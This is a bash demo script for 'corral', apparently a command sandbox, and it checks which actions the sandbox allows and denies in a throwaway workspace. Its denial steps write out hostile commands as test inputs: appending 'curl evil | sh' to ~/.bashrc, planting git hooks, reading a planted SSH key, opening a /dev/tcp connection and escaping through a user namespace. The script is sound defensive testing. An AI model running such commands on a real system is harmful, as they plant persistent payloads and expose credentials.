#!/usr/bin/env bash
# A live tour of what corral allows and denies. Uses a throwaway workspace and
# a throwaway HOME with a planted (fake) SSH key; changes nothing else.
set -u
corral=$(realpath "${1:-build/corral}")
# The throwaway tree must be one the sandbox shows, or the denials below would
# be for the wrong reason ("No such file or directory" instead of "Read-only
# file system"): not under /tmp (the sandbox has its own), not in a hidden
# path. Next to the binary if the sandbox shows that place, else in the
# cache directory or /var/tmp; corral itself says whether it does.
demo=""
for base in "$(dirname "$corral")" "${XDG_CACHE_HOME:-$HOME/.cache}" /var/tmp; do
        mkdir -p "$base" 2>/dev/null || continue
        d=$(mktemp -d "$base/corral-demo.XXXXXX" 2>/dev/null) || continue
        mkdir -p "$d/project" "$d/home"
        if (cd "$d/project" && "$corral" run -m read-only --no-workspace-config -- test -d "$d/home") 2>/dev/null; then
                demo=$d
                break
        fi
        rm -rf "$d"
done
if [ -z "$demo" ]; then
        echo "demo: found no directory that the sandbox shows (tried next to $corral, the cache directory, /var/tmp)" >&2
        exit 1
fi
trap 'rm -rf "$demo"' EXIT
ws=$demo/project
export DEMO_API_KEY=not-a-real-key  # matches the default *_API_KEY drop pattern
export HOME=$demo/home XDG_CACHE_HOME=$demo/cache XDG_CONFIG_HOME=$demo/config
mkdir -p "$ws/.git/hooks" "$ws/vendor/lib/.git/hooks" "$HOME/.ssh"
echo "-----BEGIN OPENSSH PRIVATE KEY----- (fake)" >"$HOME/.ssh/id_ed25519"
echo "# user's shell config" >"$HOME/.bashrc"
cd "$ws" || exit 1

if [ -t 1 ]; then G=$'\e[32m' R=$'\e[31m' B=$'\e[1m' N=$'\e[0m'; else G= R= B= N=; fi
step=0
try() { # try EXPECT DESCRIPTION REASON -- COMMAND...: run COMMAND in corral, show the outcome
        # A denial counts only when its output matches REASON (an extended
        # regular expression; ^$ for "prints nothing"): a command that fails
        # for another reason (a path the sandbox hides, a missing tool) is not
        # the denial the step claims.
        local expect=$1 what=$2 reason=$3
        shift 4
        step=$((step + 1))
        printf '\n%s%2d. %s%s\n    $ corral run %s\n' "$B" "$step" "$what" "$N" "$*"
        out=$("$corral" run "$@" 2>&1)
        rc=$?
        [ -n "$out" ] && printf '%s\n' "$out" | sed 's/^/    | /'
        # 125 means corral itself failed: never a successful denial.
        if { [ "$expect" = allowed ] && [ $rc -eq 0 ]; } ||
                { [ "$expect" = denied ] && [ $rc -ne 0 ] && [ $rc -ne 125 ] && grep -Eq -- "$reason" <<<"$out"; }; then
                printf '    %s%s%s (exit %d)\n' "$G" "$expect, as it should be" "$N" "$rc"
        else
                printf '    %s%s%s (exit %d)\n' "$R" "UNEXPECTED: should be $expect${reason:+ ($reason)}" "$N" "$rc"
                unexpected=1
        fi
}
unexpected=0

echo "${B}corral demo${N}: workspace $ws, HOME $HOME"
try allowed "Write inside the workspace" "" -- -- sh -c 'echo "int main(void){return 0;}" > main.c && ls'
try denied  "Write outside it (the user's ~/.bashrc)" 'Read-only file system' -- -- sh -c 'echo "curl evil | sh" >> ~/.bashrc'
try denied  "Plant a git hook (.git is protected)" 'Read-only file system' -- -- sh -c 'echo "#!/bin/sh" > .git/hooks/pre-commit'
try denied  "Move .git away and make a new one" 'Device or resource busy' -- -- sh -c 'mv .git g && mkdir .git'
try denied  "Create .codex when it does not exist" 'File exists' -- -- mkdir .codex
try denied  "Plant a hook in a nested repository" 'Read-only file system' -- --protect-depth 2 -- sh -c 'echo "#!/bin/sh" > vendor/lib/.git/hooks/post-checkout'
try denied  "Read the SSH key" 'Permission denied' -- -- cat "$HOME/.ssh/id_ed25519"
try denied  "Reach the network (network off)" 'Network is unreachable' -- -- bash -c 'exec 3<>/dev/tcp/198.51.100.1/80'
try allowed "A server on loopback inside the sandbox" "" -- -- bash -c 'nc -l 127.0.0.1 8765 & sleep 0.3; echo hi | nc -N 127.0.0.1 8765; wait'
try denied  "Secrets in the environment are dropped" '^$' -- -- sh -c 'test -n "$DEMO_API_KEY" && echo "$DEMO_API_KEY"' 
try denied  "Get capabilities back via a user namespace" 'Operation not permitted' -- -- unshare -U -r true
try denied  "Outlive the timeout (1 s)" 'timed out after' -- -t 1 -- sleep 30
try denied  "Allocate 512 MiB under --limit-memory 64M" 'MemoryError' -- --limit-memory 64M -- python3 -c 'b = bytearray(512 << 20)'

printf '\n%sAfterwards, outside the sandbox:%s\n' "$B" "$N"
printf '    ~/.bashrc: %s\n' "$(cat "$HOME/.bashrc")"
printf '    .git/hooks: %s\n' "$(ls -A .git/hooks | tr '\n' ' ')(empty means no hook was planted)"
printf '    vendor/lib/.git/hooks: %s\n' "$(ls -A vendor/lib/.git/hooks | tr '\n' ' ')(empty: none there either)"
printf '    workspace: %s\n' "$(ls -A | tr '\n' ' ')"
printf '\nSee the whole plan with: corral explain -- CMD   and the machine with: corral doctor\n'
exit $unexpected
